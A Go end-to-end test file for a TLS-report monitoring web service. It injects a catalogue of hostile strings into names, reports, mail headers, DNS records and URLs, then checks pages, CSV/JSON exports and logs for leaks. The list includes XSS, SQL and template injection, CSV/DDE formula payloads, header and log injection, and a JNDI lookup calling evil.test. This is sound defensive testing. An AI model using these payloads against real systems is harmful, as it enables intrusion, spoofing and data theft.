//go:build e2e

package main

import (
	"bytes"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"path"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"unicode"

	"github.com/sealpost/sealpost/internal/tlsrpt"
)

// hostileTexts are what outsiders write who hope that a browser, a spreadsheet,
// a terminal, a mail server or a log takes it for more than text
// (reliability.md §8, catalogue T).
func hostileTexts() []string {
	return []string{
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `</title><svg/onload=alert(1)>`, `' onfocus='alert(1)' autofocus='`,
		`{{7*7}}${7*7}<%= 7*7 %>`, `javascript:alert(1)`, `</textarea></script><script>alert(1)</script><!--`, `&lt;b&gt;&#60;i&#62;&amp;`,
		`=HYPERLINK("http://evil.test","x")`, `+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1)`,
		"\x1b[31m\x1b]8;;http://evil.test\x1b\\x\x07", "a\r\nBcc: eve@evil.test", "level=ERROR msg=\"forged\"\ntime=2026-01-01 level=INFO",
		`${jndi:ldap://evil.test/a}`, `%s%n%x`, `' OR 1=1--`, "\x1aend", "z" + strings.Repeat("\u0301\u0489", 500), "\u202egnp.exe\u2066", strings.Repeat("W", 400),
	}
}

// hostileAccount is an account in which every text that can be chosen by a
// person or by an outsider is hostile, and what pages must show of it, by the
// place that it was given at.
type hostileAccount struct {
	*node
	*browser
	w       *world
	logs    *lineLog
	shown   map[string]string
	account string   // the id of the account that has the domains
	doors   []string // pages behind links that open without a login
	token   string   // of the API
}

// lineLog keeps what a node logs.
type lineLog struct {
	mu   sync.Mutex
	text strings.Builder
}

func (l *lineLog) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.text.Write(p)
}

func newHostileAccount(t *testing.T) *hostileAccount {
	t.Helper()
	h := &hostileAccount{w: newWorld(t, append(hostileDomains(), "example.test", "taken.test")...), logs: &lineLog{}, shown: map[string]string{}}
	h.w.logs = h.logs
	h.publishHostileNames(t)
	h.node = h.w.startNode(t)
	h.browser = newBrowser(t, h.web.socket.Addr().String(), h.config.BaseURL)
	h.signUp("ada@example.test")
	token := h.addDomain("example.test")
	h.addDomain("taken.test")
	for i, text := range hostileTexts() {
		h.name(t, text)
		h.tag(t, text)
		h.logIn(t, text)
		h.report(t, i, text, token+"@rpt.tls.sealpost.test")
	}
	h.openDoors(t)
	eventually(t, "everything is read", func() bool {
		return testID(h.get("/deliveries?state=pending"), "delivery-row").Length() == 0
	})
	return h
}

// publishHostileNames puts hostile texts into the DNS of a customer.
func (h *hostileAccount) publishHostileNames(t *testing.T) {
	t.Helper()
	for i, text := range hostileTexts() {
		text = strings.ToValidUTF8(text[:min(len(text), 40)], "")
		txt := fmt.Sprintf(`_smtp._tls.taken.test. 3600 TXT "v=TLSRPTv1; rua=mailto:%s"`, escapeDNS(text))
		mx := fmt.Sprintf(`taken.test. 300 MX %d %s.taken.test.`, 20+i, escapeDNS(text))
		h.w.customer.Add(t, txt, mx)
		h.w.resolver.Add(t, txt, mx)
		h.publishHostileDomain(t, i)
	}
}

// escapeDNS writes text for a zone file, byte by byte.
func escapeDNS(text string) string {
	var b strings.Builder
	for _, c := range []byte(text) {
		fmt.Fprintf(&b, `\%03d`, c)
	}
	return b.String()
}

// expect notes that a page must show a text that was given at a place.
func (h *hostileAccount) expect(place, text string) string {
	h.shown[place+" "+fmt.Sprint(len(h.shown))] = strings.TrimSpace(strings.ReplaceAll(text, "\r\n", "\n"))
	return text
}

// name gives a text as the name of whatever a person can name. What is too
// long or cannot be shown is refused, and shown in the form.
func (h *hostileAccount) name(t *testing.T, text string) {
	t.Helper()
	fits := len([]rune(text)) < 70 && !strings.ContainsFunc(text, func(r rune) bool { return !unicode.IsPrint(r) })
	for path, fields := range map[string]url.Values{
		"/settings/members/name":       {"name": {text + " account"}},
		"/accounts":                    {"name": {text + " other"}},
		"/settings/tokens":             {"name": {text + " token"}, "scope": {"read"}, "days": {"30"}},
		"/domains/example.test/shares": {"name": {text + " share"}, "days": {"30"}},
	} {
		code, doc := h.browser.do(http.MethodPost, path, strings.NewReader(fields.Encode()), "application/x-www-form-urlencoded")
		switch {
		case code == http.StatusOK && fits && path == "/settings/members/name": // the next one takes its place
			h.shown["the name of the account"] = fields.Get("name")
		case code == http.StatusOK && fits:
			h.expect(path, fields.Get("name"))
		case code == http.StatusOK, code == http.StatusTooManyRequests:
		case code != http.StatusBadRequest || fits && doc.Find(`[aria-invalid="true"]`).Length() > 0:
			t.Errorf("%s is answered %d to %q: %s", path, code, text, doc.Find("main").Text())
		}
		if path == "/accounts" && code == http.StatusOK { // it opens the new one
			h.openFirst(t)
		}
	}
}

// report sends a report that has a text in every field, and a mail and a file
// that have it in their headers and name.
func (h *hostileAccount) report(t *testing.T, i int, text, address string) {
	t.Helper()
	say := func(place string) string { return h.expect(place, text+" "+place) }
	short := len(text) <= 200 // what is longer is cut after 255 bytes
	name := func(place string) string {
		if !short {
			return text + " " + place
		}
		return say(place)
	}
	lower := func(place string) string { // as the names of hosts are spelled
		if short {
			h.expect(place, strings.ToLower(text+" "+place))
		}
		return text + " " + place
	}
	r := report("example.test", "", yesterday(), 100, 0)
	r.Organization, r.Contact, r.ReportID = say("organisation"), say("contact"), h.expect("report-id", "id "+text+" .")
	p := &r.Policies[0]
	p.MXHosts, p.PolicyStrings = []string{lower("mx-pattern")}, []string{text + " policy-string", "mode: " + text + " mode"}
	for line := range strings.SplitSeq(p.PolicyStrings[0], "\n") {
		h.expect("line of a policy", line)
	}
	if mode, _, cut := strings.Cut(text+" mode", "\n"); short || cut {
		h.expect("mode", strings.ToLower(mode))
	}
	p.Failed.N = 3
	p.Failures = []tlsrpt.FailureDetail{{
		ResultType: name("result"), SendingMTAIP: name("ip"), ReceivingMXHostname: lower("mx"), ReceivingMXHELO: name("helo"),
		ReceivingIP: name("to"), ReasonCode: say("reason"), AdditionalInformation: say("information"), Sessions: 3,
	}}
	h.browser.post("example.test", mustEncode(t, r))
	encoded := "=?utf-8?B?" + base64.StdEncoding.EncodeToString([]byte(text[:min(len(text), 40)])) + "?="
	mail := "From: " + encoded + " <tlsrpt@reporter.test>\r\nTo: " + address + "\r\nSubject: " + encoded + "\r\nTLS-Report-Submitter: " + encoded + "\r\n\r\n" + text
	if err := sendMail(h.smtp.Addr(), address, []byte(strings.ReplaceAll(strings.ReplaceAll(mail, "\r\n", "\n"), "\n", "\r\n"))); err != nil {
		t.Fatal(err)
	}
	if !strings.ContainsAny(text, "/\\") && printable(text) == text && len(text) < 200 {
		h.upload("/domains/example.test/reports", text+".json", []byte(`"`+fmt.Sprint(i)+`"`))
		h.expect("file name", text+".json")
	}
}

// TestE2EHostileTexts: whatever persons and outsiders write is text and nothing
// else on every page, in every export and in the log (catalogue T): no dialog,
// no complaint of the browser, no element or address of theirs, no page that
// is wider than its window, and each text is shown as it was written.
func TestE2EHostileTexts(t *testing.T) {
	t.Parallel()
	h := newHostileAccount(t)
	c := startChromium(t, h.address())
	c.resize(360)
	walk := &hostileWalk{c: c, h: h, seen: map[string]int{}, files: map[string]string{}, forms: map[string]form{}}
	walk.queue = append(walk.queue, h.doors...)
	walk.queue = append(walk.queue, h.checkedDomains(t)...)
	for _, text := range hostileTexts() {
		walk.queue = append(walk.queue, "/tools/generate?domain="+url.QueryEscape(text)+"&to="+url.QueryEscape(text))
	}
	walk.all()
	c.enterAs(h.browser)
	for i, text := range hostileTexts() {
		q := url.QueryEscape(text)
		asked := [...]string{
			"/domains?tag=" + q, "/overview?tag=" + q,
			"/domains?q=" + q, "/tools/check?domain=" + q, "/deliveries?state=" + q + "&via=" + q, "/login?next=" + q, "/reports?reporter=" + q, "/nothing/" + url.PathEscape(text),
			"/domains/example.test/reports?q=" + q, "/domains/" + url.PathEscape(text),
		}
		walk.queue = append(walk.queue, asked[i%len(asked)], asked[(i+3)%len(asked)],
			"/domains/example.test?days=30&reporter="+q+"&mx="+q+"&result="+q+"&reason="+q+"&network="+q+"&mode="+q)
	}
	walk.queue = append(walk.queue, "/overview", "/settings/members", "/settings/closing", "/settings/audit", "/settings/tokens", "/settings/account", "/accounts", "/dev/mail", "/domains/taken.test/setup", "/domains/example.test/shares", "/deliveries", "/domains/taken.test/setup/history", "/settings/mailbox")
	walk.queue = append(walk.queue, h.doors...)
	walk.all()
	t.Logf("%d pages", walk.pages)
	for place, text := range h.shown {
		t.Errorf("no page shows what was given as %s: %q", place, text)
	}
	h.checkExports(t)
	h.checkPublished(t)
	h.checkFiles(t, walk.files)
	h.checkForms(t, walk.forms)
	h.checkAnswers(t)
	h.checkMails(t)
	h.checkLog(t)
}

// hostileWalk looks at every page once, and at some of each kind.
type hostileWalk struct {
	c     *chromium
	h     *hostileAccount
	queue []string
	seen  map[string]int
	files map[string]string // the address of a file, by its kind
	forms map[string]form   // by where they lead to and what they ask for
	pages int
}

// perKind is how many pages of a kind are looked at that differ in ids or in
// what they are asked for.
const perKind = 1

func (w *hostileWalk) all() {
	w.c.t.Helper()
	for len(w.queue) > 0 {
		next := w.queue[0]
		w.queue = w.queue[1:]
		w.see(next)
	}
}

// see goes to a page, looks for what does not belong there, and notes where it
// leads.
func (w *hostileWalk) see(path string) {
	w.c.t.Helper()
	w.pages++
	code := w.c.load(navigate(w.c, path))
	if code >= 500 {
		w.c.t.Errorf("%s is answered %d", path, code)
	}
	if code < 400 {
		w.c.clean()
	}
	for _, complaint := range w.c.taken() {
		if !strings.HasPrefix(complaint, "answered ") && !strings.Contains(complaint, "the server responded with a status of") {
			w.c.t.Errorf("the browser complains at %s: %s", path, complaint)
		}
	}
	w.c.eval(`for (const d of document.querySelectorAll("main details")) { d.removeAttribute("name"); d.open = true; }`)
	for _, fault := range evaluate[[]string](w.c, intruders) {
		w.c.t.Errorf("%s holds %s", path, fault)
	}
	w.c.checkWidth(360)
	if kept := w.c.text(`JSON.stringify([{...localStorage}, {...sessionStorage}])`); kept != "[{},{}]" {
		w.c.t.Errorf("%s leaves in the browser: %s", path, kept)
	}
	w.tick()
	w.noteForms()
	for _, address := range evaluate[[]string](w.c, `[...document.querySelectorAll("a[href]")].filter((a) => a.origin === location.origin).map((a) => a.pathname + a.search)`) {
		w.note(address)
	}
}

// intruders lists what no page of ours has.
const intruders = `[...document.querySelectorAll("*")].flatMap((e) => {
	const faults = e.getAttributeNames().filter((n) => n.startsWith("on") || n === "style" || n === "srcdoc").map((n) => "an attribute " + n + " in " + e.outerHTML.slice(0, 200));
	const to = e.getAttribute("href") ?? e.getAttribute("src") ?? e.getAttribute("action") ?? "/";
	if (!/^(\/(?!\/)|#|\?|https?:\/\/|mailto:)/i.test(to) && to !== "") faults.push("an address: " + to.slice(0, 200));
	if (/^(IFRAME|OBJECT|EMBED|BASE|META)$/.test(e.tagName) && (e.tagName !== "META" || e.closest("body"))) faults.push(e.outerHTML.slice(0, 200));
	if (e.tagName === "SCRIPT" && !e.src.startsWith(location.origin + "/static/")) faults.push(e.outerHTML.slice(0, 200));
	if (e.tagName === "IMG" && !e.src.startsWith(location.origin + "/static/")) faults.push(e.outerHTML.slice(0, 200));
	return faults;
})`

// tick crosses off the texts that an element of the page shows, letter by
// letter.
func (w *hostileWalk) tick() {
	w.c.t.Helper()
	wanted, err := json.Marshal(w.h.shown)
	if err != nil {
		w.c.t.Fatal(err)
	}
	for _, place := range evaluate[[]string](w.c, `((wanted) => {
		const texts = new Set([...document.querySelectorAll("body *")].flatMap((e) => [e.textContent.trim(), (e.value ?? "").toString().trim(), [...e.childNodes].filter((n) => n.nodeType === 3).map((n) => n.data).join("").trim()]));
		return Object.keys(wanted).filter((k) => texts.has(wanted[k]));
	})(`+string(wanted)+`)`) {
		delete(w.h.shown, place)
	}
}

// note queues a page that was linked to.
func (w *hostileWalk) note(address string) {
	u, err := url.Parse(address)
	if err != nil {
		w.c.t.Errorf("a link leads to %q: %v", address, err)
		return
	}
	k := kind(u.Path)
	if slices.Contains(downloads[:], k) {
		w.files[k+" "+path.Base(u.Path)] = address
		return
	}
	if strings.HasPrefix(u.Path, "/static/") || w.seen[address] > 0 {
		return
	}
	w.seen[address]++
	asked := k
	if len(u.Query()) > 0 { // which of them is asked for makes no other page
		asked += " ?"
	}
	if w.seen[asked]++; w.seen[asked] <= perKind || k == "/reports/ID" && u.RawQuery == "" && w.seen[asked] <= len(hostileTexts()) {
		w.queue = append(w.queue, address)
	}
}

// checkExports: no cell begins a formula, and JSON holds what was written.
func (h *hostileAccount) checkExports(t *testing.T) {
	t.Helper()
	formula := regexp.MustCompile(`^[=+\-@\t\r\n]`)
	paths := []string{"/settings/audit/export/audit.csv", "/settings/audit/export/audit.json", "/domains/export/cnames.csv"}
	for _, table := range []string{"trend", "result", "reporter", "mx", "network", "policy", "grid", "reports", "details"} {
		paths = append(paths, "/domains/example.test/export/"+table+".csv?days=30", "/domains/example.test/export/"+table+".json?days=30")
	}
	for _, path := range paths {
		res, err := h.client.Get("http://" + h.addr + path)
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(res.Body)
		res.Body.Close()
		if err != nil || res.StatusCode != http.StatusOK {
			t.Fatalf("%s: %d, %v", path, res.StatusCode, err)
		}
		if strings.Contains(path, ".json") {
			var rows []map[string]any
			if err := json.Unmarshal(body, &rows); err != nil || len(rows) == 0 {
				t.Errorf("%s: %d rows, %v", path, len(rows), err)
			}
			continue
		}
		rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		if err != nil || len(rows) < 2 {
			t.Errorf("%s: %d rows, %v", path, len(rows), err)
		}
		for _, cell := range slices.Concat(rows...) {
			if _, err := strconv.ParseInt(cell, 10, 64); err != nil && formula.MatchString(cell) {
				t.Errorf("%s has the cell %q", path, cell)
			}
		}
	}
	reports, details := h.exportOf(t, "reports"), h.exportOf(t, "details")
	for _, text := range hostileTexts() {
		if !bytes.Contains(reports, mustMarshal(t, "id "+text+" .")) {
			t.Errorf("the reports as JSON lack the report-id %q", text)
		}
		places := []string{" reason", " information"}
		if len(text) <= 200 { // what is longer is cut after 255 bytes
			places = append(places, " helo", " result", " ip", " to")
		}
		for _, place := range places {
			if !bytes.Contains(details, mustMarshal(t, text+place)) {
				t.Errorf("the details as JSON lack the%s %q", place, text)
			}
		}
	}
}

func (h *hostileAccount) exportOf(t *testing.T, table string) []byte {
	t.Helper()
	res, err := h.client.Get("http://" + h.addr + "/domains/example.test/export/" + table + ".json?days=30")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return body
}

func mustMarshal(t *testing.T, v any) []byte {
	t.Helper()
	text, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return text
}

// checkLog: every line is one that the program has begun, and nothing in it
// moves a cursor or changes a colour.
func (h *hostileAccount) checkLog(t *testing.T) {
	t.Helper()
	h.logs.mu.Lock()
	defer h.logs.mu.Unlock()
	line := regexp.MustCompile(`^time=20\d\d-[-0-9T:.Z+]+ level=(INFO|WARN|ERROR|DEBUG) msg=`)
	lines := strings.Split(strings.TrimSuffix(h.logs.text.String(), "\n"), "\n")
	for _, l := range lines {
		if !line.MatchString(l) || strings.Contains(l, "level=ERROR msg=\"forged\"") || strings.ContainsFunc(l, unicode.IsControl) || strings.ContainsRune(l, '\u202e') {
			t.Errorf("the log has the line %q", l)
		}
	}
	if len(lines) < 100 {
		t.Errorf("the log has %d lines only", len(lines))
	}
}

// openFirst goes back to the account that has the domains.
func (h *hostileAccount) openFirst(t *testing.T) {
	t.Helper()
	if h.account == "" { // there are two now, and the other one is open
		h.account = h.get("/accounts").Find(`form[action="/accounts/open"] input[name=account]`).AttrOr("value", "")
	}
	h.submit("/accounts/open", url.Values{"account": {h.account}})
}
